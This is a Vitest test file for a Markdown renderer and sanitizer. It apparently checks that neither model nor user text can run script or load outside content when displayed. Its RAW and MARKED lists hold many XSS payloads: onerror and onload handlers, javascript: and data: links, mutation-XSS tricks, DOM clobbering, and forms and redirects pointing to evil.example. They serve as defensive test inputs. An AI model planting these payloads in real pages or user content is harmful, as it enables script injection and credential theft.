// @vitest-environment jsdom
/** Case R01: whatever a model or a person writes, nothing runs and nothing is loaded. */
import fc from "fast-check";
import { Tokenizer } from "marked";
import { describe, expect, it, test, vi } from "vitest";

import { splitBlocks } from "./blocks";
import { renderBlock } from "./render";
import { sanitize } from "./sanitize";
import { SafeTokenizer } from "./tokenizer";

vi.setConfig({ testTimeout: 60_000 }); // properties, on a busy machine

const ELEMENTS = new Set(
  (
    "P BR HR STRONG EM DEL CODE PRE BLOCKQUOTE UL OL LI H1 H2 H3 H4 H5 H6 TABLE THEAD TBODY TR " +
    "TH TD A"
  ).split(" "),
);
const ATTRIBUTES = new Set(["href", "target", "rel", "class", "align", "start"]);

/** What of `html` isn't allowed once a browser has read it. */
function faults(html: string): string[] {
  const body = document.createElement("div");
  body.innerHTML = html;
  const found: string[] = [];
  for (const element of body.querySelectorAll("*")) {
    if (!ELEMENTS.has(element.nodeName)) {
      found.push(`<${element.nodeName}>`);
    }
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES.has(name)) {
        found.push(`${element.nodeName} ${name}`);
      }
      if (name === "href" && !/^(?:https?:\/\/|mailto:)/.test(value)) {
        found.push(`href ${value}`);
      }
      if (name === "class" && !/^language-[\w+#.-]+$/.test(value)) {
        found.push(`class ${value}`);
      }
    }
    if (element.nodeName === "A" && element.hasAttribute("href")) {
      const rel = element.getAttribute("rel") ?? "";
      if (!/noopener/.test(rel) || element.getAttribute("target") !== "_blank") {
        found.push("a without rel");
      }
    }
  }
  return found;
}

function htmlOf(text: string): string {
  return splitBlocks(text)
    .map((block) => (block.kind === "html" ? block.html : ""))
    .join("");
}

const RAW = [
  `<img src=x onerror=alert(1)>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><use href="data:image/svg+xml;base64,x#x"></use></svg>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="java&#x0A;script:alert(1)">x</a>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<object data="x"></object><embed src="x">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math><mi xlink:href="data:x,<script>alert(1)</script>"></mi></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<form action="https://evil.example"><input name=password><button>go</button></form>`,
  `<style>@import "https://evil.example";</style>`,
  `<p style="background:url(https://evil.example/x)">x</p>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<video src="x" onerror="alert(1)" autoplay></video><audio src=x></audio>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<select><template shadowrootmode=open><img src=x onerror=alert(1)></template></select>`,
  `<p id="app" name="cookie" class="evil">x</p>`,
  `<a id=defaultView href=x></a><form id=attributes><input name=attributes>`,
  `<script>alert(1)</script>`,
  `<scr<script>ipt>alert(1)</script>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<?xml-stylesheet href="https://evil.example"?>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<textarea></textarea><img src=x onerror=alert(1)>`,
  `<code onclick=alert(1) class="hljs-x language-js">x</code>`,
];

const MARKED = [
  `[x](javascript:alert(1))`,
  `[x](JAVASCRIPT&#58;alert(1))`,
  `[x](javascript&colon;alert(1))`,
  `[x](<java\tscript:alert(1)>)`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x](vbscript:alert(1))`,
  `[x](https://e.org/"onmouseover="alert(1))`,
  `[x](https://e.org 'a" onmouseover="alert(1)')`,
  `[x][1]\n\n[1]: javascript:alert(1)`,
  `<javascript:alert(1)>`,
  `![x](https://evil.example/pixel.gif)`,
  `![x" onerror="alert(1)](https://evil.example/p)`,
  `![<img src=x onerror=alert(1)>](data:image/svg+xml,x)`,
  "`<img src=x onerror=alert(1)>`",
  '- ```"><img/src=x/onerror=alert(1)>\n  x\n  ```',
  "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
  `# <img src=x onerror=alert(1)>`,
  `&lt;img src=x onerror=alert(1)&gt;`,
  `&#60;img src=x onerror=alert(1)&#62;`,
  `[<img src=x onerror=alert(1)>](https://e.org)`,
  `<pre>&lt;b&gt; [x](javascript:alert(1))`,
  `<script>\n\n[x](https://e.org)\n\n</script><img src=x onerror=alert(1)>`,
];

describe("as Markdown", () => {
  it.each([...RAW, ...MARKED])("%s", (text) => {
    for (const form of [text, `a ${text} b`, `> ${text}`, `- ${text}`, `**${text}**`]) {
      expect(faults(htmlOf(form))).toEqual([]);
    }
  });

  it("tags are shown as they were written", () => {
    const body = document.createElement("div");
    for (const text of RAW) {
      if (text.startsWith("<") && !text.includes("&") && !text.includes("](")) {
        body.innerHTML = htmlOf(text);
        expect(body.textContent.trim()).toBe(text);
      }
    }
  });

  it("any mixture", () => {
    const piece = fc.constantFrom(
      ...RAW,
      ...MARKED,
      "\n",
      "\n\n",
      "*",
      "`",
      "[",
      "](",
      ")",
      "<",
      ">",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), fc.string(), (pieces, cut) => {
        expect(faults(htmlOf(pieces.join(cut)))).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  it("links say where they go and pictures become links", () => {
    expect(htmlOf("![a cat](https://e.org/cat.png)")).toBe(
      '<p><a href="https://e.org/cat.png" target="_blank" rel="noopener noreferrer nofollow">a cat</a></p>\n',
    );
    expect(htmlOf("![](https://e.org/cat.png)")).toContain(">https://e.org/cat.png</a>");
    expect(htmlOf("[in here](/accounts/logout/)")).toBe("<p>in here</p>\n");
  });
});

describe("the second wall alone", () => {
  it.each(RAW)("%s", (html) => {
    expect(faults(sanitize(html))).toEqual([]);
    expect(faults(sanitize(`<p>${html}</p>`))).toEqual([]);
  });

  it("gives links their attributes whatever they said", () => {
    const html = sanitize('<a href="https://e.org" target="_top" rel="opener">x</a>');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).not.toContain("_top");
  });
});

test.each(["a".repeat(60_000) + "@", "a.".repeat(30_000) + "@b"])(
  "a long word before an @ is read in a few steps (%#)",
  (text) => {
    const steps = vi.spyOn(SafeTokenizer.prototype, "inlineText");
    expect(renderBlock(text, {}, true)).toContain(text.slice(0, 50_000));
    expect(steps.mock.calls.length).toBeLessThan(1_000);
    steps.mockRestore();
  },
);

test("no address is looked for where none can begin", () => {
  const looks = vi.spyOn(Tokenizer.prototype, "url");
  renderBlock("a_".repeat(3_000) + "@", {}, true);
  expect(looks.mock.calls.length).toBeLessThan(1_000);
  looks.mockRestore();
});

test("an address after a long word is a link all the same", () => {
  const html = renderBlock(`${"a".repeat(1_000)}https://example.org and me@example.org`, {}, true);
  expect(html).toContain('href="https://example.org/"');
  expect(html).toContain('href="mailto:me@example.org"');
});
